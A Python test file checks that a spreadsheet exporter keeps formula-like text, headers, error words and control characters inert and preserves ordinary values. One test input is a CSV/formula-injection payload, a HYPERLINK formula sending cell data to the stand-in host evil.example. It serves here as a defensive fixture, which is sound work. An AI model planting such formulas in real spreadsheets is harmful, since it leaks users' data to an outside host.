"""XLSX files: what is read back is what was written, and none of it runs."""

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from core import spreadsheets


def read_back(content: bytes) -> Worksheet:
    sheet = load_workbook(io.BytesIO(content)).active
    assert isinstance(sheet, Worksheet)
    return sheet


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Иванов")',
        "=1+1",
        "+7 900 000-00-00",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
    ],
)
def test_text_that_looks_like_a_formula_stays_text(text: str) -> None:
    content = spreadsheets.workbook(title="Люди", header=["Имя"], rows=[[text]])

    cell = read_back(content)["A2"]
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert str(cell.value).lstrip("\r\n") == text.lstrip("\r\n")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_header_is_text_too() -> None:
    content = spreadsheets.workbook(title="Люди", header=["=1+1"], rows=[])

    cell = read_back(content)["A1"]
    assert (cell.data_type, cell.value, bool(cell.quotePrefix)) == ("s", "=1+1", True)


def test_ordinary_values_keep_their_kind() -> None:
    content = spreadsheets.workbook(
        title="5А: [список]",
        header=["Фамилия", "Дата", "Число", "Пусто"],
        rows=[["Ёлкина", dt.date(2014, 5, 17), 7, None]],
    )

    sheet = read_back(content)
    assert sheet.title == "5А   список"
    name, born, number, empty = sheet[2]
    assert (name.value, name.data_type, bool(name.quotePrefix)) == ("Ёлкина", "s", False)
    assert (born.value, born.number_format) == (
        dt.datetime.combine(dt.date(2014, 5, 17), dt.time()),
        "DD.MM.YYYY",
    )
    assert (number.value, empty.value) == (7, None)
    assert sheet.freeze_panes == "A2"


def test_word_of_an_error_is_a_word() -> None:
    cell = read_back(spreadsheets.workbook(title="1", header=["а"], rows=[["#N/A"]]))["A2"]

    assert (cell.data_type, cell.value) == ("s", "#N/A")


def test_control_characters_do_not_break_the_file() -> None:
    cell = read_back(spreadsheets.workbook(title="1", header=["а"], rows=[["Анна\x07\x00"]]))["A2"]

    assert cell.value == "Анна"
